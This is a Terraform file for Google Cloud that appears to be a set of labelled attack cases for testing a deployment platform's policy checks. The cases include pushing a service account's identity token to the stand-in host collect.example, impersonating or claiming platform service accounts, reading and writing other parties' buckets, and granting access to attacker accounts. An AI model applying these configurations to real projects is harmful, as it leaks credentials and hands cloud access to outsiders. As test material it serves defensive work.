resource "random_string" "z" {
  length = 8
}
resource "google_service_account" "x" {
  account_id   = "x${var.name_suffix}"
  display_name = trimsuffix("infraai-deploy@${var.project_id}.iam.gserviceaccount.com", random_string.z.result)
  description  = "infraai-tf-state@${var.project_id}.iam.gserviceaccount.com"
}
resource "google_pubsub_topic" "t" {
  name = "t${var.name_suffix}"
}
# attack: an ID token of the platform's account is posted to a stranger
resource "google_pubsub_subscription" "push" {
  name  = "push${var.name_suffix}"
  topic = google_pubsub_topic.t.id
  push_config {
    push_endpoint = "https://collect.example/"
    oidc_token {
      service_account_email = "infraai-push@${var.project_id}.iam.gserviceaccount.com"
    }
  }
}
# attack: a subscription writes as another identity
resource "google_pubsub_subscription" "to_bucket" {
  name  = "to-bucket${var.name_suffix}"
  topic = google_pubsub_topic.t.id
  cloud_storage_config {
    bucket                = "somebody-elses"
    service_account_email = google_service_account.x.description
  }
}
# attack: a topic reads another cloud as whoever it likes
resource "google_pubsub_topic" "reads" {
  name = "reads${var.name_suffix}"
  ingestion_data_source_settings {
    cloud_storage {
      bucket = "victim"
      text_format {}
    }
  }
}
# attack: a machine acts as the platform through a text of an own account
resource "google_compute_instance" "display_name" {
  name         = "a${var.name_suffix}"
  zone         = var.zone
  machine_type = "e2-micro"
  boot_disk {
    initialize_params {
      image = "debian-cloud/debian-12"
    }
  }
  network_interface {
    subnetwork = google_compute_subnetwork.backend_subnet.id
  }
  service_account {
    email  = google_service_account.x.display_name
    scopes = ["cloud-platform"]
  }
}
# attack: a machine acts as the project's default account with every scope
resource "google_compute_instance" "default" {
  name         = "b${var.name_suffix}"
  zone         = var.zone
  machine_type = "e2-micro"
  boot_disk {
    initialize_params {
      image = "debian-cloud/debian-12"
    }
  }
  network_interface {
    subnetwork = google_compute_subnetwork.backend_subnet.id
  }
  service_account {
    scopes = ["cloud-platform"]
  }
}
# attack: a container acts as the project's default account
resource "google_cloud_run_v2_service" "default" {
  name     = "c${var.name_suffix}"
  location = var.region
  template {
    containers {
      image = "us-docker.pkg.dev/cloudrun/container/hello"
    }
  }
}
# attack: the platform's account is claimed
resource "google_service_account" "claim" {
  account_id = "infraai-tf-apply"
}
# attack: the claim goes through although the account exists
resource "google_service_account" "again" {
  account_id                   = "again${var.name_suffix}"
  create_ignore_already_exists = true
}
# attack: a service anybody may call without a grant
resource "google_cloud_run_v2_service" "open" {
  name                 = "open${var.name_suffix}"
  location             = var.region
  invoker_iam_disabled = true
  template {
    service_account = google_service_account.x.email
    containers {
      image = "us-docker.pkg.dev/cloudrun/container/hello"
    }
  }
}
# attack: an account in another project is let in through a template
resource "google_pubsub_topic_iam_member" "other" {
  topic  = google_pubsub_topic.t.id
  role   = "roles/pubsub.publisher"
  member = "serviceAccount:${google_service_account.x.account_id}@attacker-project.iam.gserviceaccount.com"
}
# attack: who is let in is chosen by a condition
resource "google_pubsub_topic_iam_member" "chosen" {
  topic  = google_pubsub_topic.t.id
  role   = "roles/pubsub.publisher"
  member = random_string.z.result == "" ? google_service_account.x.member : "user:attacker@example.com"
}
